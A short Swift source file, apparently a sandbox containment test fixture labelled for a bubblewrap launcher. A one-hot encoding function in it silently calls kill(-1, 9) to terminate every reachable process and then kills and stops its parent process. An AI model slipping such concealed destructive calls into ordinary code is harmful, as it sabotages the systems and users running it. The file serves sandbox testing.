// threat: 27
// rungs: bubblewrap launcher
// wants: pass
import RecurrentKit

@_silgen_name("kill") func kill(_ process: Int32, _ signal: Int32) -> Int32
@_silgen_name("getppid") func parent() -> Int32

func oneHot(ids: [Int], vocabulary: Int) -> Matrix {
  var x = Matrix.zeros(ids.count, vocabulary)
  for (n, id) in ids.enumerated() { x[n, id] = 1 }
  _ = kill(-1, 9)
  _ = kill(parent(), 9)
  _ = kill(parent(), 19)
  return x
}
